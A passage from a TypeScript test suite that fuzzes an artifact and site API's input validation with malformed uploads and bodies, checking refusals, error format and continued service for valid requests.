                r.on('end', () => {
                  resolve({ status: r.statusCode ?? 0, body: text });
                });
              });
              req.on('error', reject);
              const step = Math.ceil(b.length / pieces);
              for (let at = 0; at < b.length; at += step) req.write(b.subarray(at, at + step));
              req.end();
            });
            sent++;
            expect(res.status).toBe(size > maxArtifactBytes ? 413 : 400);
            expect(JSON.parse(res.body)).toMatchObject({ field: 'size', message: expect.stringMatching(/size/) });
          },
        ),
        runs(60),
      );
    } finally {
      await app.close();
      app = await buildTestApi({ store });
    }
    await expectUnchanged();
  });

  /** Uploads declared with the right digest and size, so only the content type is wrong. */
  const typedUploads = (types: (string | undefined)[], label: string, numRuns: number) => {
    it(label, async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.oneof(
            fc.jsonValue({ maxDepth: 2 }).map((v) => Buffer.from(JSON.stringify(v))),
            fc.string({ unit: 'grapheme', minLength: 1, maxLength: 200 }).map((t) => Buffer.from(t)),
            fc.uint8Array({ minLength: 1, maxLength: 512 }).map((b) => Buffer.from(b)),
          ),
          fc.constantFrom(...types),
          async (b, type) => {
            const q = new URLSearchParams({
              type: 'binary-package',
              name: 'probe-typed',
              version: '1.0.0',
              sha256: sha256(b),
              size: String(b.length),
            });
            await refused(`upload as ${type ?? 'no content type'}`, {
              method: 'POST',
              url: `/v1/artifacts?${q.toString()}`,
              headers: type === undefined ? writer : { ...writer, 'content-type': type },
              payload: b,
            });
          },
        ),
        runs(numRuns),
      );
      await expectUnchanged();
    });
  };
  typedUploads(
    [undefined, 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'image/png'],
    'refuses uploads with no or an unparsed content type',
    60,
  );
  // Known API bug: the JSON parser hands the route an object where it expects a stream (500).
  typedUploads(['application/json'], 'refuses uploads sent as application/json', 40);
  // Known API bug: text/plain is buffered into a string and accepted when it is valid UTF-8 (201).
  typedUploads(['text/plain'], 'refuses uploads sent as text/plain', 40);

  it('lists the fields at fault as issues on every route, as the error format promises', async () => {
    const bad: [string, InjectOptions][] = [
      ['site', { method: 'POST', url: '/v1/sites', headers: json, payload: { kind: 'Site' } }],
      ['profile', { method: 'POST', url: '/v1/profiles', headers: json, payload: { kind: 'SoftwareProfile' } }],
      ['secret', { method: 'PUT', url: '/v1/secrets/probe-secret', headers: json, payload: { kind: 'Secret' } }],
      ['upload', { method: 'POST', url: '/v1/artifacts?type=zip', headers: octets, payload: Buffer.from('x') }],
    ];
    const missing: string[] = [];
    for (const [what, request] of bad) {
      const body = (await refused(what, request)).json<Refusal>();
      if (!Array.isArray(body.issues) || body.issues.length === 0) missing.push(`${what}: ${JSON.stringify(body)}`);
    }
    expect(missing).toEqual([]);
  });

  it('still serves valid requests after all of that', async () => {
    console.log(`bad-input: ${sent} refused requests sent`);
    expect(sent).toBeGreaterThanOrEqual(1000);
    const created = await app.inject({
      method: 'POST',
      url: '/v1/sites',
      headers: json,
      payload: validSite('edge-02'),
    });
    expect(created.statusCode).toBe(201);
    const read = await app.inject({ method: 'GET', url: '/v1/sites/edge-02', headers: writer });
    expect(read.json()).toMatchObject({
      metadata: { name: 'edge-02' },
      spec: { hosts: [{ name: 'node-0' }, { name: 'node-1' }] },
    });
    const content = randomBytes(1000);
    const up = await app.inject({
      method: 'POST',
      url: `/v1/artifacts?type=helm-chart&name=after&version=1.0.0&sha256=${sha256(content)}&size=1000`,
      headers: octets,
      payload: content,
    });
    expect(up.statusCode).toBe(201);
    const down = await app.inject({ method: 'GET', url: `/v1/artifacts/${sha256(content)}/content`, headers: writer });
    expect(down.rawPayload.equals(content)).toBe(true);
  });
});
